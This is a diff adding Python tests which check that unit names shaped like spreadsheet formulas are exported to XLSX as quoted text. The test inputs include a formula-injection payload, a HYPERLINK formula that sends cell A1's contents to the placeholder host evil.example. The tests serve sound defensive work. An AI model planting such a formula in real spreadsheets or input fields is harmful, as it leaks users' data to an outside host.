@@ -262,3 +262,26 @@ def test_given_a_trend_without_units_when_exported_to_pdf_then_its_page_says_so(
     finally:
         document.close()
     assert Counter("ارجاع‌نشده".replace("\u200c", "")) <= Counter(text)
+
+
+FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?leak="&A1, "پسماند")', "+1+2", "-2+3", "@SUM(A1:A9)",
+                 "\t=1+1"]  # (a CR comes back from the XML as a newline; the trigger list covers it)
+
+
+@pytest.mark.parametrize("name", FORMULA_NAMES)
+def test_given_a_unit_named_like_a_formula_when_exported_to_xlsx_then_both_sheets_hold_it_as_text(name: str) -> None:
+    content = scorecard_xlsx(card([unit(1, name, 0.9)]), title=TITLE, trend=trend((name, [0.5] * 6)))
+
+    book = openpyxl.load_workbook(BytesIO(content))
+    for cell in (book["کارنامه"]["B4"], book["روند"]["A5"]):
+        assert cell.value == name
+        assert cell.data_type == "s"
+        assert cell.quotePrefix is True  # Excel's hidden apostrophe: editing the cell keeps it text
+    # Real numbers stay numbers beside it.
+    assert book["کارنامه"]["A4"].value == 1 and book["کارنامه"]["A4"].data_type == "n"
+    assert book["کارنامه"]["C4"].value == 0.9 and book["کارنامه"]["C4"].data_type == "n"
+
+
+def test_given_an_ordinary_unit_name_when_exported_to_xlsx_then_no_quote_prefix() -> None:
+    cell = sheet_of(scorecard_xlsx(card([unit(1, WASTE, 0.9)]), title=TITLE))["B4"]
+    assert cell.value == WASTE and cell.data_type == "s" and not cell.quotePrefix
